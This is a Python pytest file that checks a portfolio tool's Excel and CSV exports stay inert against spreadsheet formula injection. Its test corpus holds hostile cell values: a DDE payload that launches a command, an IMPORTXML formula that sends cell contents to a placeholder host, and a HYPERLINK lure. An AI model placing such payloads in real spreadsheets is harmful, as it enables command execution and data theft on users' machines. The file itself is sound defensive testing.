"""Formula injection: a corpus of hostile texts through every export — the data workbook, the
template, the progress table (.xlsx and .csv), a chart's CSV, the open-problem list, the check
report and the audit trail — opened with openpyxl (no formula anywhere, the text intact) or read
as CSV (nothing a spreadsheet would run); the exported workbook re-imports to the same data."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import altair as alt
import pandas as pd
import pytest
from openpyxl import load_workbook

from core.base import cells, settings
from core.base import schema as S
from core.figures import measures as M
from core.figures.scope import Scope
from core.ingest import importing, workbook
from core.output import export
from core.output.charts import ChartOut
from core.store import audit, datasource
from core.store.datasource import with_all_columns
from core.store.portfolio import read_csv
from core.store.versions import Store
from tests.access_kit import ADMIN

MINI = Path(__file__).parents[2] / "fixtures" / "mini"
CORPUS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/p.png","点此查看")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
    "=1+1甲区项目",
]
CONTROL = ["\t=1+1", "\r=1+1"]  # stripped by the import; written inert by every export
TEXT_COLUMNS = {S.PROJECTS: (S.NAME, S.OWNER, S.LEADER, S.CONTENT, S.OWNER_PERSON),
                S.MONTHLY: (S.PROGRESS_TEXT,), S.PROBLEMS: (S.PROBLEM_TEXT, S.RESPONSIBLE_UNIT)}  # fmt: skip


def hostile_tables() -> dict[str, pd.DataFrame]:
    """The mini data set with a corpus entry in every free-text column of every row."""
    tables = {t: with_all_columns(read_csv(MINI / f"{t}.csv"), t) for t in S.TABLES}
    for table, columns in TEXT_COLUMNS.items():
        frame = tables[table]
        for j, column in enumerate(columns):
            frame[column] = [CORPUS[(i + j) % len(CORPUS)] for i in range(len(frame))]
    return tables


def assert_inert_xlsx(content: bytes, expected: set[str]) -> None:
    assert cells.formula_cells(content) == []
    wb = load_workbook(io.BytesIO(content))
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}  # fmt: skip
    assert expected <= texts, expected - texts  # the text itself, not a formula's result
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if cells.formula_like(c.value):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)


def assert_inert_csv(content: bytes, expected: set[str]) -> None:
    text = content.decode("utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(text, newline="")) for v in row]
    assert not [v for v in values if cells.formula_like(v)]
    assert {"'" + e for e in expected} <= set(values)


@pytest.fixture
def store(tmp_path) -> Store:
    s = Store(f"sqlite:///{tmp_path}/hostile.sqlite")
    yield s
    s.close()


def test_the_data_workbook_re_imports_to_the_same_data(store, tmp_path):
    tables = hostile_tables()
    first = workbook.data_bytes(tables)
    assert_inert_xlsx(first, set(CORPUS))
    files = [("数据.xlsx", first), ("b.geojson", (MINI / "区县边界.geojson").read_bytes())]
    report = importing.check(files, store)
    assert report.importable, report.summary()
    warned = [line for line in report.lines() if "可能被当作公式" in line.message]
    assert {v for line in warned for v in line.values} >= {CORPUS[0], CORPUS[3]}
    importing.commit(report, store, actor=ADMIN)
    back, _ = store.current_tables()
    for table, columns in TEXT_COLUMNS.items():
        for column in columns:
            assert back[table][column].tolist() == tables[table][column].tolist(), column
    again = workbook.data_bytes(datasource.current(store).tables)
    other = Store(f"sqlite:///{tmp_path}/again.sqlite")
    importing.commit(importing.check([("再导入.xlsx", again), files[1]], other), other,
                     actor=ADMIN)  # fmt: skip
    twice, _ = other.current_tables()
    for table in S.TABLES:
        pd.testing.assert_frame_equal(twice[table], back[table])
    other.close()


def test_control_characters_are_written_inert():
    tables = hostile_tables()
    tables[S.PROJECTS][S.NAME] = (CONTROL * 5)[: len(tables[S.PROJECTS])]
    assert_inert_xlsx(workbook.data_bytes(tables), set(CONTROL))


def test_the_template_with_an_office_s_hostile_lists(tmp_path, monkeypatch):
    own = tmp_path / "settings.toml"
    shutil.copy(settings.DEFAULTS, own)
    text = own.read_text(encoding="utf-8").replace('"基础设施"', '"=1+1"')
    own.write_text(text, encoding="utf-8")
    monkeypatch.setenv(settings.SETTINGS_SETTING, str(own))
    assert_inert_xlsx(
        workbook.template_bytes(), {"产业项目、=1+1、社会民生、生态环保、城市更新、现代服务业"}
    )


def test_the_progress_table_and_a_chart(store):
    report = importing.check(
        [("数据.xlsx", workbook.data_bytes(hostile_tables())),
         ("b.geojson", (MINI / "区县边界.geojson").read_bytes())], store)  # fmt: skip
    importing.commit(report, store, actor=ADMIN)
    p = datasource.portfolio(datasource.current(store))
    scope = Scope(p.latest_period)
    table = M.progress_table(p, scope)
    names = set(table[S.NAME])
    assert names <= set(CORPUS) and len(names) == len(table)
    assert_inert_xlsx(export.progress_xlsx(table, scope), names)
    assert_inert_csv(export.progress_csv(table, scope), names)
    data = pd.DataFrame({"项目名称": sorted(names), "完成投资(亿元)": [-1.5] * len(names)})
    chart = ChartOut("curve", CORPUS[1], scope, alt.Chart(data).mark_bar(), data)
    content = export.csv(chart)
    assert_inert_csv(content, names | {CORPUS[1]})
    assert "-1.5" in content.decode("utf-8-sig")  # a negative number stays a number


def test_the_page_downloads_and_the_trail(store):
    """What the pages offer as CSV besides: the open problems, the check report, the trail."""
    frame = pd.DataFrame({"问题描述": CORPUS + CONTROL, "已等待(月)": range(len(CORPUS) + 2)})
    assert_inert_csv(cells.csv_bytes(frame), set(CORPUS + CONTROL))
    bad = "项目代码,年月,本月完成投资(万元),形象进度\n=1+1,2026-02,abc,@SUM(A1)\n".encode()
    checked = importing.check([("月度进度.csv", bad)], store).frame()
    assert_inert_csv(cells.csv_bytes(checked), {"=1+1"})
    audit.record(store, ADMIN, audit.LAYOUT_SAVED, CORPUS[1], CORPUS[0])
    assert_inert_csv(cells.csv_bytes(audit.frame(audit.entries(store))), {CORPUS[0], CORPUS[1]})
